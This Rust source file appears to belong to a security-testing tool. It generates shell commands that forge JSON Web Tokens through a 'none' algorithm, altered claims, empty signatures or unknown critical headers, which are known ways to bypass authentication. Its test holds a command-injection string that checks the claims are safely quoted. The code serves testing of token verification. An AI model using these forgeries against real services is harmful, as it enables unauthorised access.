//! A forged token as a command that makes it from the genuine one.

use serde_json::Value;
use watertight_engine::call::{Forged, Forgery};

use super::shell::{quoted, single};

/// A command that prints the forged token, where no key is needed to make it. Claims are data to it, never code: the
/// target's own issuer may have chosen them.
pub(super) fn forging(forged: &Forged, token: &str) -> Option<String> {
    let (header, signature) = match &forged.forgery {
        Forgery::NoneAlgorithm { spelling } => {
            let is_word = !spelling.is_empty() && spelling.chars().all(|c| c.is_ascii_alphabetic());
            is_word.then(|| (format!("h[\"alg\"]=\"{spelling}\";"), "\"\""))?
        }
        Forgery::AlteredClaim => (String::new(), "s"),
        Forgery::EmptySignature => (String::new(), "\"\""),
        Forgery::UnknownCritical => {
            ("h[\"crit\"]=[\"urn:example:unknown\"];h[\"urn:example:unknown\"]=True;".to_owned(), "s")
        }
        Forgery::HmacWithPublicKey { .. } | Forgery::UnknownKid | Forgery::EmbeddedKey | Forgery::KeyUrl { .. } => {
            return None;
        }
    };
    let claims = forged.claims.iter().map(|(name, value)| (name.clone(), Value::String(value.clone())));
    let claims = Value::Object(claims.collect()).to_string();
    // Within the command substitution, single quotes keep the script from the shell.
    Some(format!(
        "python3 -c 'import base64,json,sys;h,c,s=sys.argv[1].split(\".\");\
d=lambda t:json.loads(base64.urlsafe_b64decode(t+\"==\"));\
e=lambda o:base64.urlsafe_b64encode(json.dumps(o).encode()).decode().rstrip(\"=\");\
h=d(h);c=d(c);{header}c.update(json.loads(sys.argv[2]));print(e(h)+\".\"+e(c)+\".\"+{signature})' {} {}",
        quoted(token),
        single(&claims)
    ))
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    use super::*;

    #[test]
    fn claims_that_a_hostile_issuer_chose_are_one_word_to_the_shell() {
        let hostile = "x';touch pwned;'\"$(id)";
        let who: watertight_spec::Who = serde_json::from_str(r#"{"tenant":0,"principal":0}"#).unwrap();
        let claims = vec![("sub".to_owned(), hostile.to_owned())];
        let command = forging(&Forged { who, forgery: Forgery::AlteredClaim, claims }, "NORTH_TOKEN").unwrap();
        let script = format!("NORTH_TOKEN=e30.e30.sig; printf '%s' \"$({command})\" | cut -d. -f2 | tr -d '\\n'");
        let output = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
        let decoded = URL_SAFE_NO_PAD.decode(String::from_utf8(output.stdout).unwrap()).unwrap();
        let decoded: Value = serde_json::from_slice(&decoded).unwrap();
        assert_eq!(decoded, serde_json::json!({ "sub": hostile }), "{script}");
    }
}
